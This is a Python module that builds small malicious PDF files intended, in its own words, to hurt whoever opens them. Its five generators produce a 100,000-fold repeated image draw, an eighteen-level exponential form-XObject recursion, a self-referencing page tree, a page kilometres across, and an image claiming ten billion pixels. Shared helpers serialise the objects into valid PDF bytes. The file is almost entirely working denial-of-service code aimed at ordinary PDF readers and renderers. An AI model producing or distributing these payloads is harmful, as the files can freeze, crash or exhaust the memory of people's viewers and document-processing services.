"""Documents that hurt whoever opens them, as small as they can be made."""


def endless() -> bytes:
    """A picture of one grey dot drawn over the whole page a hundred thousand times: hours of drawing."""
    dot = b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 "
    content = b"q 612 0 0 792 0 0 cm\n" + b"/Dot Do\n" * 100_000 + b"Q"
    return file_of([*page_of(content, b"/XObject << /Dot 5 0 R >>"), dot + b"/Length 1 >>\nstream\n\x80\nendstream"])


def exploding() -> bytes:
    """Drawings that each draw the next ten times, eighteen deep: more memory than there is."""
    depth, forms = 18, []
    for level in range(depth):
        last = level == depth - 1
        content = b"BT /F 9 Tf (x) Tj ET" if last else b"/Next Do " * 10
        resources = b"" if last else b"/XObject << /Next %d 0 R >>" % (6 + level)
        forms.append(
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << %s >> /Length %d >>\n"
            b"stream\n%s\nendstream" % (resources, len(content), content)
        )
    return file_of([*page_of(b"/F0 Do", b"/XObject << /F0 5 0 R >>"), *forms])


def looping_page_tree() -> bytes:
    """A page tree that is its own grandchild."""
    return file_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        ]
    )


def kilometres() -> bytes:
    """A page of kilometres, that drawn at 300 dpi would be 10^13 pixels."""
    return file_of(page_of(b"0 0 m 9000000 9000000 l S", b"", box=b"[0 0 14400000 14400000]"))


def vast_picture() -> bytes:
    """A page that says it shows a picture of 10^10 pixels in colour."""
    content = b"q 612 0 0 792 0 0 cm /Vast Do Q"
    picture = (
        b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
        b"/Length 3 >>\nstream\n\x80\x80\x80\nendstream"
    )
    return file_of([*page_of(content, b"/XObject << /Vast 5 0 R >>"), picture])


def page_of(content: bytes, resources: bytes, box: bytes = b"[0 0 612 792]") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources << %s >> /Contents 4 0 R >>" % (box, resources),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
    ]


def file_of(objects: list[bytes]) -> bytes:
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)
